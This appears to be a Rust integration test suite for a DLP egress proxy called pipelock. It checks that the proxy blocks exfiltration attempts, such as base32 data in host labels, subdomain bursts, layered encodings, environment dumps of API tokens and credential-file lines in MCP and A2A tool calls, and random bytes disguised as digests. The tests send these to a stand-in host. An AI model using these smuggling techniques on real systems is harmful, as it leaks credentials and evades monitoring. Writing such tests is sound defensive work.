//! The `strict` DLP profile and the exfiltration shapes through a real
//! pipelock: data in host labels, bursts of new subdomains, layered encodings
//! in a query, environment dumps and credential files in MCP / A2A bodies.
//! Each refusal is checked at the origin: its request log shows nothing of it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use std::time::Duration;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use bytes::Bytes;
use http_body_util::{BodyExt, Full, StreamBody};

const ALLOW: &str = "*.exfil.test:*\necho.test:*\n127.0.0.1/32\n";
const STRICT: &str = "dlp: {action: block, profile: strict}\n";

/// Run-time data an agent would smuggle, as a lower-case base32 DNS label.
fn base32_label(seed: u64) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..32)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            A[(x >> 40) as usize % 32] as char
        })
        .collect()
}

/// `--resolve NAME=127.0.0.1` for each name.
fn resolves(names: &[String]) -> Vec<String> {
    names
        .iter()
        .flat_map(|n| ["--resolve".to_string(), format!("{n}=127.0.0.1")])
        .collect()
}

async fn spawn(env: &Env, names: &[String], audit: bool) -> pipelock::Running {
    let mut args = resolves(names);
    if audit {
        args.push("--audit-log".into());
        args.push(env.dir.path().join("audit.jsonl").display().to_string());
    }
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    env.spawn(&argv).await
}

fn write_routes(env: &Env, text: &str) {
    let tmp = env.cfg_dir().join(".routes.tmp");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, env.cfg_dir().join("routes.yaml")).unwrap();
}

async fn connect_status(p: &pipelock::Running, authority: &str) -> (u16, String) {
    let (status, head, mut s) = raw_head(
        p.addr,
        &format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n"),
    )
    .await;
    let body = if status == 200 {
        String::new()
    } else {
        read_body(&mut s, &head).await
    };
    (status, format!("{head}{body}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_host_label_is_allowed_in_default_and_refused_after_reload_to_strict() {
    let env = Env::new(ALLOW, "").await;
    let label = base32_label(7);
    let host = format!("{label}.exfil.test");
    let p = spawn(&env, std::slice::from_ref(&host), true).await;
    let auth = format!("{host}:{}", env.tls_port());
    let (status, text) = connect_status(&p, &auth).await;
    assert_eq!(status, 200, "default profile: {text}");

    write_routes(&env, STRICT);
    p.live.reload_now().await.unwrap();
    let (status, text) = connect_status(&p, &auth).await;
    assert_eq!(status, 403, "strict profile: {text}");
    assert!(
        text.to_ascii_lowercase()
            .contains("x-bottle-blocked: pipelock"),
        "{text}"
    );
    assert!(
        text.contains("suspected exfiltration in request host: anomaly-host-entropy"),
        "{text}"
    );
    assert!(
        !text.contains(&label),
        "the refusal echoes the label: {text}"
    );
    // Plain HTTP to the same name is refused before it is resolved or sent.
    let r = http_get(p.addr, &format!("http://{host}:{}/x", env.http_port())).await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(env.origin.requests().is_empty());
    // Ordinary names under the same wildcard still work in strict.
    let ok = http_get(
        p.addr,
        &format!("http://echo.test:{}/fine", env.http_port()),
    )
    .await;
    assert_eq!(ok.status, 200, "{}", ok.text());
    p.stop().await;
    let audit = std::fs::read_to_string(env.dir.path().join("audit.jsonl")).unwrap();
    // (The default-profile tunnel before the reload was audited with its name.)
    let refusals: Vec<&str> = audit
        .lines()
        .filter(|l| l.contains("anomaly-host-entropy"))
        .collect();
    assert_eq!(refusals.len(), 2, "{audit}");
    assert!(
        refusals.iter().all(|l| !l.contains(&label)),
        "a refusal's audit line holds the label: {audit}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn burst_of_new_subdomains_is_cut_at_the_limit_in_strict() {
    let env = Env::new(ALLOW, STRICT).await;
    let names: Vec<String> = (0..30).map(|i| format!("s{i}.exfil.test")).collect();
    let p = spawn(&env, &names, false).await;
    let port = env.http_port();
    let mut refused = Vec::new();
    for (i, n) in names.iter().enumerate() {
        let r = http_get(p.addr, &format!("http://{n}:{port}/n{i}")).await;
        match r.status {
            200 => {}
            403 => {
                assert!(r.text().contains("anomaly-subdomain-burst"), "{}", r.text());
                refused.push(i);
            }
            other => panic!("{n}: {other} {}", r.text()),
        }
    }
    assert_eq!(refused, (20..30).collect::<Vec<_>>());
    let seen: Vec<String> = env
        .origin
        .requests()
        .iter()
        .map(|q| q.path.clone())
        .collect();
    for i in 0..30 {
        assert_eq!(
            seen.contains(&format!("/n{i}")),
            i < 20,
            "/n{i} in {seen:?}"
        );
    }
    // A subdomain used before the burst is familiar and keeps working.
    let r = http_get(p.addr, &format!("http://s3.exfil.test:{port}/again")).await;
    assert_eq!(r.status, 200, "{}", r.text());
    // CONNECT counts too: a new subdomain is still refused.
    let extra = "s29.exfil.test".to_string();
    let (status, text) = connect_status(&p, &format!("{extra}:{}", env.tls_port())).await;
    assert_eq!(status, 403, "{text}");
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_layer_encoded_query_is_refused_in_strict_only() {
    let text = "nightly export: customers table, 48 rows";
    let layered = STANDARD.encode(hex::encode(STANDARD.encode(text)));
    let one_layer = STANDARD.encode(text);
    let q = |v: &str| {
        v.replace('=', "%3D")
            .replace('+', "%2B")
            .replace('/', "%2F")
    };
    let env = Env::new(ALLOW, "").await;
    let p = spawn(&env, &[], false).await;
    let port = env.http_port();
    let r = http_get(
        p.addr,
        &format!("http://echo.test:{port}/d1?v={}", q(&layered)),
    )
    .await;
    assert_eq!(r.status, 200, "default profile: {}", r.text());

    write_routes(&env, STRICT);
    p.live.reload_now().await.unwrap();
    let r = http_get(
        p.addr,
        &format!("http://echo.test:{port}/s1?v={}", q(&layered)),
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(
        r.text()
            .contains("suspected exfiltration in request URL: anomaly-encoding-layers"),
        "{}",
        r.text()
    );
    assert!(!r.text().contains(&layered[..16]));
    // Through the tunnel as well.
    let roots = roots_from_pem(&env.ca_cert());
    let r = https_get(
        p.addr,
        &format!("echo.test:{}", env.tls_port()),
        &format!("/s2?v={}", q(&layered)),
        roots,
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    // One layer of base64 in a query is encoded data too (strict judges its
    // shape), but an ordinary search query passes.
    let r = http_get(
        p.addr,
        &format!("http://echo.test:{port}/s4?v={}", q(&one_layer)),
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("anomaly-path-entropy"), "{}", r.text());
    let r = http_get(
        p.addr,
        &format!("http://echo.test:{port}/s3?q=tokio+select+cancel+safety&page=2"),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    let paths: Vec<String> = env
        .origin
        .requests()
        .iter()
        .map(|q| q.path.clone())
        .collect();
    assert!(paths.contains(&"/d1".to_string()) && paths.contains(&"/s3".to_string()));
    assert!(
        !paths.iter().any(|p| p == "/s1" || p == "/s2" || p == "/s4"),
        "{paths:?}"
    );
    p.stop().await;
}

type Body = http_body_util::combinators::BoxBody<Bytes, std::io::Error>;

/// The body in slow chunks cut at `cuts`.
fn chunked(doc: &str, cuts: &[usize]) -> Body {
    let mut parts = Vec::new();
    let mut at = 0;
    for &c in cuts {
        parts.push(doc[at..c].to_string());
        at = c;
    }
    parts.push(doc[at..].to_string());
    let stream = futures_util::stream::unfold(parts.into_iter(), |mut it| async move {
        let next = it.next()?;
        tokio::time::sleep(Duration::from_millis(50)).await;
        Some((
            Ok::<_, std::io::Error>(hyper::body::Frame::data(Bytes::from(next))),
            it,
        ))
    });
    StreamBody::new(stream).boxed()
}

async fn post_via_tunnel(env: &Env, p: &pipelock::Running, path: &str, body: Body) -> Resp {
    let auth = format!("echo.test:{}", env.tls_port());
    let mut send = tunnel_h1(p.addr, &auth, "echo.test", &env.ca_cert()).await;
    let req = http::Request::post(path)
        .header("host", &auth)
        .header("content-type", "application/json")
        .body(body)
        .unwrap();
    let resp = tokio::time::timeout(T, send.send_request(req))
        .await
        .unwrap()
        .unwrap();
    let (parts, b) = resp.into_parts();
    Resp {
        status: parts.status.as_u16(),
        headers: parts.headers,
        body: b.collect().await.map(|c| c.to_bytes()).unwrap_or_default(),
    }
}

/// A secret-shaped value built at run time (never a real credential).
fn secretish(seed: u64) -> String {
    let label = base32_label(seed);
    format!(
        "{}{}Zq{}",
        &label[..10].to_ascii_uppercase(),
        seed,
        &label[10..]
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn env_dump_in_mcp_tools_call_and_credentials_in_a2a_message_are_refused_by_default() {
    let env = Env::new(ALLOW, "").await;
    let p = spawn(&env, &[], false).await;
    let (a, b) = (secretish(11), secretish(12));
    // Padding so the scanner would already have released the start.
    let pad = "x".repeat(9000);
    let dump = format!("HOME=/home/agent\nGITHUB_TOKEN={a}\nSHELL=/bin/sh\nOPENAI_API_KEY={b}\n");
    let mcp = serde_json::json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call",
        "params": {"name": "create_issue", "arguments": {"title": "env", "pad": pad, "body": dump}}})
    .to_string();
    let second = mcp.find("OPENAI_API_KEY").unwrap();
    let r = post_via_tunnel(&env, &p, "/mcp", chunked(&mcp, &[second - 5, second + 6])).await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.headers.get("x-bottle-blocked").unwrap(), "pipelock");
    assert!(
        r.text()
            .contains("suspected exfiltration in request body: exfil-env-dump"),
        "{}",
        r.text()
    );
    for q in env.origin.requests().iter().filter(|q| q.path == "/mcp") {
        assert!(
            (q.body_len as usize) < second,
            "origin got {} bytes",
            q.body_len
        );
    }
    let creds = format!("[default]\naws_access_key_id = AKIA0000\naws_secret_access_key = {a}\n");
    let a2a = serde_json::json!({"jsonrpc": "2.0", "id": "t1", "method": "message/send",
        "params": {"message": {"role": "agent", "parts": [{"kind": "text", "text": creds}]}}})
    .to_string();
    let r = post_via_tunnel(
        &env,
        &p,
        "/a2a",
        Full::new(Bytes::from(a2a)).map_err(|e| match e {}).boxed(),
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("exfil-credential-file"), "{}", r.text());
    assert!(env
        .origin
        .requests()
        .iter()
        .all(|q| q.path != "/a2a" || q.body_len == 0));
    // An ordinary tool call with configuration names (no values) passes.
    let ok = serde_json::json!({"jsonrpc": "2.0", "id": 5, "method": "tools/call",
        "params": {"name": "set_env", "arguments": {"vars": ["GITHUB_TOKEN", "OPENAI_API_KEY"],
        "note": "GITHUB_TOKEN=${{ secrets.GITHUB_TOKEN }}"}}})
    .to_string();
    let r = post_via_tunnel(
        &env,
        &p,
        "/ok",
        Full::new(Bytes::from(ok)).map_err(|e| match e {}).boxed(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_action_lets_anomalies_through() {
    let env = Env::new(ALLOW, "dlp: {action: log, profile: strict}\n").await;
    let label = base32_label(21);
    let host = format!("{label}.exfil.test");
    let p = spawn(&env, std::slice::from_ref(&host), false).await;
    let r = http_get(p.addr, &format!("http://{host}:{}/logged", env.http_port())).await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(env.origin.requests().iter().any(|q| q.path == "/logged"));
    p.stop().await;
}

/// Plain HTTP absolute-form POST through the proxy.
async fn http_post(proxy: std::net::SocketAddr, url: &str, ctype: &str, body: String) -> Resp {
    let s = tokio::net::TcpStream::connect(proxy).await.unwrap();
    let uri: http::Uri = url.parse().unwrap();
    let req = http::Request::post(url)
        .header("host", uri.authority().unwrap().as_str())
        .header("content-type", ctype)
        .body(Full::new(Bytes::from(body)))
        .unwrap();
    h1(s, req).await
}

fn percent_all(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exfil_in_a_query_or_form_body_and_layers_in_a_tool_call_are_refused() {
    let env = Env::new(ALLOW, "").await;
    let p = spawn(&env, &[], false).await;
    let port = env.http_port();
    let (a, b) = (secretish(31), secretish(32));
    let dump = format!("NPM_TOKEN={a}\nSTRIPE_SECRET_KEY={b}\n");
    // Default profile: a dump in a GET query, percent-encoded.
    let r = http_get(
        p.addr,
        &format!("http://echo.test:{port}/q1?m={}", percent_all(&dump)),
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("exfil-env-dump"), "{}", r.text());
    // A form body with a .git-credentials line.
    let form = format!(
        "note={}",
        percent_all(&format!("https://agent:{a}@github.com\n"))
    );
    let r = http_post(
        p.addr,
        &format!("http://echo.test:{port}/f1"),
        "application/x-www-form-urlencoded",
        form,
    )
    .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("exfil-credential-file"), "{}", r.text());
    // Layered encoding in tool-call arguments: passes in default, refused in strict.
    let layered = STANDARD.encode(hex::encode(STANDARD.encode("reading list for the weekend")));
    let call = serde_json::json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call",
        "params": {"name": "fetch", "arguments": {"q": layered}}})
    .to_string();
    let url = format!("http://echo.test:{port}/m1");
    let r = http_post(p.addr, &url, "application/json", call.clone()).await;
    assert_eq!(r.status, 200, "default profile: {}", r.text());
    write_routes(&env, STRICT);
    p.live.reload_now().await.unwrap();
    let url = format!("http://echo.test:{port}/m2");
    let r = http_post(p.addr, &url, "application/json", call).await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("anomaly-encoding-layers"), "{}", r.text());
    let paths: Vec<String> = env
        .origin
        .requests()
        .iter()
        .map(|q| q.path.clone())
        .collect();
    assert!(paths.contains(&"/m1".to_string()), "{paths:?}");
    for refused in ["/q1", "/f1"] {
        assert!(
            !paths.iter().any(|p| p == refused),
            "{refused} reached the origin: {paths:?}"
        );
    }
    for q in env.origin.requests().iter().filter(|q| q.path == "/m2") {
        assert_eq!(q.body_len, 0, "the origin got the layered body");
    }
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_data_in_an_invented_header_in_strict_and_a_dump_over_headers_are_refused() {
    let env = Env::new(ALLOW, STRICT).await;
    let p = spawn(&env, &[], false).await;
    let port = env.http_port();
    let blob = STANDARD.encode(base32_label(41).repeat(2));
    let get = |path: &str, name: &str, value: &str| {
        let req = http::Request::get(format!("http://echo.test:{port}{path}"))
            .header("host", format!("echo.test:{port}"))
            .header(name, value)
            .body(Full::new(Bytes::new()))
            .unwrap();
        async move {
            let s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
            h1(s, req).await
        }
    };
    let r = get("/h1", "X-Debug-State", &blob).await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(
        r.text().contains(
            "suspected exfiltration in request header x-debug-state: anomaly-path-entropy"
        ),
        "{}",
        r.text()
    );
    // Headers that carry tokens by design, and ordinary values, pass.
    let r = get("/h2", "X-Request-Id", &blob).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let r = get("/h3", "X-Client-Version", "cli/1.2.3 (linux; x86_64)").await;
    assert_eq!(r.status, 200, "{}", r.text());
    // Default profile too: an environment dump spread over two headers, with
    // human-chosen passwords (no random-looking token for the secret detectors).
    write_routes(&env, "");
    p.live.reload_now().await.unwrap();
    let req = http::Request::get(format!("http://echo.test:{port}/h4"))
        .header("host", format!("echo.test:{port}"))
        .header(
            "x-a",
            format!("DB_PASSWORD={}{}!{}", "Winter", 2000 + 31, "Harbor"),
        )
        .header(
            "x-b",
            format!("SMTP_PASSWORD={}{}#{}", "Maple", 7 * 11, "Lantern"),
        )
        .body(Full::new(Bytes::new()))
        .unwrap();
    let s = tokio::net::TcpStream::connect(p.addr).await.unwrap();
    let r = h1(s, req).await;
    assert_eq!(r.status, 403, "{}", r.text());
    // (The secret detectors' `env-secret-assignment` may name it first.)
    assert!(r.text().contains("header x-"), "{}", r.text());
    assert!(!r.text().contains("Harbor"), "{}", r.text());
    let paths: Vec<String> = env
        .origin
        .requests()
        .iter()
        .map(|q| q.path.clone())
        .collect();
    assert!(!paths.iter().any(|p| p == "/h1" || p == "/h4"), "{paths:?}");
    p.stop().await;
}

/// Bytes with no structure (stand-in for file contents an agent would smuggle).
fn random_bytes(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x2545_F491_4F6C_DD1D) | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

fn uuid_of(b: &[u8]) -> String {
    let h = hex::encode(&b[..16]);
    format!(
        "{}-{}-{}-{}-{}",
        &h[..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

/// h10 #11 (ported from `strict_lets_192_random_bytes_a_request_through_as_digest_sized_segments`):
/// "hash-sized" values carry data. Random bytes written at a digest's length in an
/// alphabet digests are not written in (base32, 64-character base64url), more than four
/// hash-sized values in one URL (UUIDs), and a steady stream of new hex "digests" under
/// that count are refused in strict; the origin's request log shows none of the refused
/// requests, and the hex channel carried at most one parent's budget (4 KiB). A page
/// fetching a few content-addressed assets, again and again, passes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strict_refuses_random_bytes_sent_as_digest_sized_values() {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let uuid_hosts: Vec<String> = (0..12)
        .map(|i| format!("{}.exfil.test", uuid_of(&random_bytes(900 + i, 16))))
        .collect();
    let env = Env::new(ALLOW, STRICT).await;
    let p = spawn(&env, &uuid_hosts, false).await;
    let port = env.http_port();
    let get = |path: String| {
        let url = format!("http://echo.test:{port}{path}");
        async move { (http_get(p.addr, &url).await, path) }
    };
    let data = random_bytes(1, 200);
    let mut must_not_arrive: Vec<String> = Vec::new();
    // Benign first: content-addressed assets, each fetched twice.
    for round in 0..2 {
        for i in 0..8u64 {
            let digest = hex::encode(random_bytes(50 + i, 32));
            let (r, path) = get(format!("/v2/app/blobs/sha256:{digest}")).await;
            assert_eq!(
                r.status,
                200,
                "asset {i} round {round} {path}: {}",
                r.text()
            );
        }
    }
    // Control: 100 bytes as one base64url segment.
    let (r, path) = get(format!("/up/{}", URL_SAFE_NO_PAD.encode(&data[..100]))).await;
    assert_eq!(r.status, 403, "control: {}", r.text());
    must_not_arrive.push(path);
    // 192 bytes as four 64-character base64url segments; 40 bytes as 64 base32
    // characters; base32 at the lengths of base64 digests (22 to 44 characters).
    let b32 = base32_label(3).to_ascii_uppercase() + &base32_label(4).to_ascii_uppercase();
    let mut shaped = vec![
        format!(
            "/up/{}",
            data[..192]
                .chunks(48)
                .map(|c| URL_SAFE_NO_PAD.encode(c))
                .collect::<Vec<_>>()
                .join("/")
        ),
        format!("/up/{}", &b32[..64]),
    ];
    for len in [22, 24, 28, 43, 44] {
        shaped.push(format!("/up/{}", &b32[..len]));
        shaped.push(format!("/up/{}.bin", &b32[64 - len..]));
    }
    // Five UUIDs (80 bytes) in one path; five hex "digests" dotted into one segment.
    shaped.push(format!(
        "/up/{}",
        data[..80]
            .chunks(16)
            .map(uuid_of)
            .collect::<Vec<_>>()
            .join("/")
    ));
    shaped.push(format!(
        "/up/a.{}.js",
        data[..160]
            .chunks(32)
            .map(hex::encode)
            .collect::<Vec<_>>()
            .join(".")
    ));
    // Hex cut by dashes into pieces too short to judge; random bytes behind `eyJ`
    // passed off as a JWT.
    let dashed: Vec<String> = hex::encode(&data[..60])
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).to_string())
        .collect();
    shaped.push(format!("/up/{}", dashed.join("-")));
    shaped.push(format!(
        "/up?token=eyJ{}.eyJ{}.{}",
        URL_SAFE_NO_PAD.encode(&data[..60]),
        URL_SAFE_NO_PAD.encode(&data[60..120]),
        URL_SAFE_NO_PAD.encode(&data[120..152])
    ));
    for path in shaped {
        let (r, path) = get(path).await;
        assert_eq!(r.status, 403, "{path}: {}", r.text());
        assert!(r.text().contains("anomaly-path-entropy"), "{}", r.text());
        must_not_arrive.push(path);
    }
    // A steady channel: four new 32-byte hex "digests" a request (each URL passes the
    // per-URL checks) until the parent's budget is spent.
    let mut carried = 0usize;
    let mut refused = None;
    for i in 0..60u64 {
        let chunk = random_bytes(100 + i, 128);
        let segs: Vec<String> = chunk.chunks(32).map(hex::encode).collect();
        let (r, path) = get(format!("/up/{}", segs.join("/"))).await;
        match r.status {
            200 => carried += 128,
            403 => {
                assert!(r.text().contains("anomaly-digest-budget"), "{}", r.text());
                assert!(!r.text().contains(&segs[0]), "{}", r.text());
                must_not_arrive.push(path);
                refused = Some(i);
                break;
            }
            other => panic!("{other}: {}", r.text()),
        }
    }
    assert!(refused.is_some(), "the hex channel was never refused");
    assert!(carried <= 4096, "{carried} bytes carried");
    // The assets fetched before stay familiar and free.
    let digest = hex::encode(random_bytes(50, 32));
    let (r, _) = get(format!("/v2/app/blobs/sha256:{digest}")).await;
    assert_eq!(r.status, 200, "{}", r.text());
    // New UUID host labels (16 bytes per lookup): a few, not a stream.
    let mut arrived_hosts = 0;
    for (i, h) in uuid_hosts.iter().enumerate() {
        let r = http_get(p.addr, &format!("http://{h}:{port}/uuid-host-{i}")).await;
        match r.status {
            200 => arrived_hosts += 1,
            403 => assert!(r.text().contains("suspected exfiltration"), "{}", r.text()),
            other => panic!("{h}: {other} {}", r.text()),
        }
    }
    assert!(
        arrived_hosts <= 4,
        "{arrived_hosts} new UUID hosts reached the origin"
    );
    // Request targets as the origin received them (path and query).
    let seen: Vec<String> = env
        .origin
        .requests()
        .iter()
        .map(|q| q.uri.clone())
        .collect();
    assert!(
        seen.iter().any(|u| u.starts_with("/v2/app/blobs/sha256:")),
        "{seen:?}"
    );
    for path in &must_not_arrive {
        assert!(!seen.contains(path), "{path} reached the origin");
    }
    let uuid_arrivals = seen.iter().filter(|s| s.starts_with("/uuid-host-")).count();
    assert_eq!(uuid_arrivals, arrived_hosts, "{seen:?}");
    p.stop().await;
}
